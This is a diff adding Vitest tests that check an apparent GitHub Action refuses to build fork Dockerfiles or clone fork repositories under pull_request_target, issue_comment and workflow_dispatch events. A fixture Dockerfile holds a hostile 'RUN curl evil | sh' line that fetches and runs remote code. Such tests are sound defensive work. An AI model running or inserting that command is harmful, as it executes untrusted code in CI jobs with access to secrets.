@@ -1,5 +1,9 @@
 // What the action refuses and what it keeps secret: bad inputs, fork pull requests, private clones.
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { forkRepo } from '../helpers/git-fixtures.ts'
 import { startGitHttpServer } from '../helpers/git-http-server.ts'
 import {
   BASE,
@@ -74,6 +78,46 @@ describe('fork pull requests', () => {
     expect(allowed.main.exitCode).toBe(0)
     expect(allowed.main.stdout).toContain('pwned')
     expect(await liveSandboxes(project)).toEqual([])
+  })
+})
+
+describe('what is cloned and built decides, whatever the inputs say', () => {
+  it("never builds the workspace's Dockerfile of a fork's pull_request_target, even with repository: <base>", async () => {
+    const event = await openForkPullRequest(project, {
+      owner: 'trudy',
+      number: 10,
+      files: { Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' },
+      name: 'pull_request_target',
+    })
+    // the workflow checked out the PR head, then named the base repository to clone
+    const ws = await mkdtemp(join(tmpdir(), 'trust-ws-'))
+    try {
+      await writeFile(join(ws, 'Dockerfile'), 'FROM node:22\nRUN curl evil | sh\n')
+      await project.emulator.admin.resetRequests()
+      const { main } = await job(project, { run: 'true', repository: BASE }, { event, workspace: ws })
+      expect(main.exitCode).not.toBe(0)
+      expect(main.annotations.map((a) => a.message).join('\n')).toMatch(
+        /Dockerfile.*trudy\/widgets.*allow-fork/is,
+      )
+      expect((await project.emulator.admin.requests()).total).toBe(0)
+    } finally {
+      await rm(ws, { recursive: true, force: true })
+    }
+  })
+
+  it.each([
+    ['issue_comment', 'oscar'],
+    ['workflow_dispatch', 'olga'],
+  ])('refuses %s with repository: <a fork>, which would run its code with secrets', async (name, owner) => {
+    await forkRepo(project.git, BASE, `${owner}/widgets`).catch(() => {})
+    const event = { name, payload: { repository: { full_name: BASE } } }
+    await project.emulator.admin.resetRequests()
+    const { main } = await job(project, { run: 'true', repository: `${owner}/widgets` }, { event })
+    expect(main.exitCode).not.toBe(0)
+    expect(main.annotations.map((a) => a.message).join('\n')).toMatch(
+      new RegExp(`${owner}/widgets under ${name}.*allow-fork`, 's'),
+    )
+    expect((await project.emulator.admin.requests()).total).toBe(0)
   })
 })
 
